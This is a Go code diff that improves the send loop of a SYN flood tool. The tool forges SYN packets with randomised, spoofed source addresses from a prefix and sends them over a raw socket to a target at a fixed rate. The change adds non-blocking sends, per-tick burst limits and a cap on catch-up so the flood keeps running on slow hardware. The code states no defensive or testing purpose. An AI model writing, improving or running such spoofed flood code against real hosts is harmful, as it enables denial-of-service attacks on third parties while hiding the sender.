@@ -67,6 +67,11 @@ func (f *Flood) run(fd int, dst netip.AddrPort, spoof netip.Prefix, duration tim
 	tick := time.NewTicker(time.Millisecond)
 	defer tick.Stop()
 	end := f.started.Add(duration)
+	// A tick sends what is due, but at most a tenth of a second's worth:
+	// a machine too slow for the rate sends what it can, and the sender
+	// still sees Stop and its end on every tick.
+	burst := uint64(max(f.Rate/10, 1))
+	attempts := uint64(0)
 	for now := range tick.C {
 		select {
 		case <-f.stop:
@@ -76,16 +81,22 @@ func (f *Flood) run(fd int, dst netip.AddrPort, spoof netip.Prefix, duration tim
 		if now.After(end) {
 			return
 		}
-		// Pace by elapsed time, so a slow tick catches up.
 		due := uint64(now.Sub(f.started).Seconds() * float64(f.Rate))
-		for f.sent.Load() < due {
+		for n := uint64(0); attempts < due && n < burst; n++ {
+			attempts++
 			src := base + r.Uint32N(span)
 			synPacket(pkt, src, dst, uint16(1024+r.IntN(64512)), r.Uint32())
-			if err := unix.Sendto(fd, pkt, 0, to); err != nil && !errors.Is(err, unix.ENOBUFS) {
+			// Never block: a full socket buffer drops the SYN (not counted).
+			err := unix.Sendto(fd, pkt, unix.MSG_DONTWAIT, to)
+			switch {
+			case err == nil:
+				f.sent.Add(1)
+			case errors.Is(err, unix.ENOBUFS), errors.Is(err, unix.EAGAIN):
+			default:
 				return
 			}
-			f.sent.Add(1)
 		}
+		attempts = max(attempts, due-min(due, burst)) // do not owe more than a burst
 	}
 }
 
